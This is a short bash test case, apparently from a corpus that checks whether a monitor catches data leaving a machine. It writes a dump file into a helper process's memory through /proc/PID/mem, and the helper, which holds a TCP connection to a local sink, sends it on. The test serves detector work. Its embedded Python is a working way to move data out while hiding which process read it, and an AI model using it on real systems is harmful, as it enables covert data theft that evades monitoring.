#!/bin/bash
# B-mem-write: who has read the dump puts it into the memory of a helper, which has the connection, by a write to /proc/PID/mem.
# flow: pwrite to /proc/PID/mem of the helper, which makes no call that takes anything in, and sends.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
helper_up
python3 - "$D" "$helper" "$(cat where)" <<'END' || fail "/proc/PID/mem"
import os, sys
dump, memory = os.open(sys.argv[1], os.O_RDONLY), os.open(f"/proc/{sys.argv[2]}/mem", os.O_WRONLY)
address = int(sys.argv[3])
while part := os.read(dump, 60000):
    address += os.pwrite(memory, part, address)
END
: >go
wait "$helper" || fail "the helper failed"
sunk "$(stat -c %s "$D")"
